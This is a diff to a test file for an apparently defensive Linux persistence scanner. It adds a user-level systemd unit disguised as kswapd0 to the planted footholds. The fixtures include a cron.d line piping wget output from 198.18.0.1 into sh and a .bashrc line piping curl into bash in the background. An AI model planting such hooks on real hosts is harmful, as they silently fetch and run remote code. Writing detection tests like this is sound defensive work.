@@ -184,9 +184,10 @@ describe('scan is read-only', () => {
 });
 
 describe('other footholds of the campaigns', () => {
-  it("finds another rule unit running from /var/tmp, a cron.d downloader, a .bashrc hook and ld.so.preload", async () => {
+  it("finds another rule unit running from /var/tmp, a user's own unit, a cron.d downloader, a .bashrc hook and ld.so.preload", async () => {
     await inHost(
       'mkdir -p /var/tmp/.ice-unix && printf "[Service]\\nExecStart=/var/tmp/.ice-unix/pnsd\\n" >/etc/systemd/system/pnsd.service && ' +
+        'mkdir -p /home/analyst/.config/systemd/user && printf "[Service]\\nExecStart=/home/analyst/.cache/kswapd0\\n" >/home/analyst/.config/systemd/user/dbus-update.service && ' +
         'echo "* * * * * root wget -q -O - http://198.18.0.1/p.sh | sh" >/etc/cron.d/pnsd && ' +
         'echo "curl -fsSL http://198.18.0.1/x | bash >/dev/null 2>&1 &" >>/home/analyst/.bashrc && ' +
         'ls /usr/lib/x86_64-linux-gnu/libdl.so.2 >/etc/ld.so.preload',
@@ -195,13 +196,14 @@ describe('other footholds of the campaigns', () => {
       const { findings } = await runScan();
       expect(ofKind(findings, 'rule_unit')).toContainEqual({ kind: 'rule_unit', path: '/etc/systemd/system/pnsd.service', evidence: '', severity: 'high' });
       expect(ofKind(findings, 'exec_in_writable_dir')).toContainEqual(expect.objectContaining({ path: '/etc/systemd/system/pnsd.service', evidence: 'ExecStart=/var/tmp/.ice-unix/pnsd' }));
+      expect(ofKind(findings, 'exec_in_writable_dir')).toContainEqual(expect.objectContaining({ path: '/home/analyst/.config/systemd/user/dbus-update.service', evidence: 'ExecStart=/home/analyst/.cache/kswapd0' }));
       expect(ofKind(findings, 'cron')).toContainEqual({ kind: 'cron', path: '/etc/cron.d/pnsd', evidence: '* * * * * root wget -q -O - http://198.18.0.1/p.sh | sh', severity: 'high' });
       expect(ofKind(findings, 'login_script')).toContainEqual(expect.objectContaining({ path: '/home/analyst/.bashrc', evidence: 'curl -fsSL http://198.18.0.1/x | bash >/dev/null 2>&1 &' }));
       expect(ofKind(findings, 'ld_preload')).toEqual([{ kind: 'ld_preload', path: '/etc/ld.so.preload', evidence: '/usr/lib/x86_64-linux-gnu/libdl.so.2', severity: 'high' }]);
       // Debian's own cron jobs and login scripts are not findings.
       expect(findings.filter((finding) => /^\/etc\/(cron\.daily|cron\.d\/e2scrub_all|profile|bash\.bashrc)/.test(finding.path))).toEqual([]);
     } finally {
-      await inHost('rm -rf /etc/systemd/system/pnsd.service /etc/cron.d/pnsd /etc/ld.so.preload /var/tmp/.ice-unix && sed -i "/198.18.0.1/d" /home/analyst/.bashrc');
+      await inHost('rm -rf /etc/systemd/system/pnsd.service /home/analyst/.config /etc/cron.d/pnsd /etc/ld.so.preload /var/tmp/.ice-unix && sed -i "/198.18.0.1/d" /home/analyst/.bashrc');
     }
   });
 
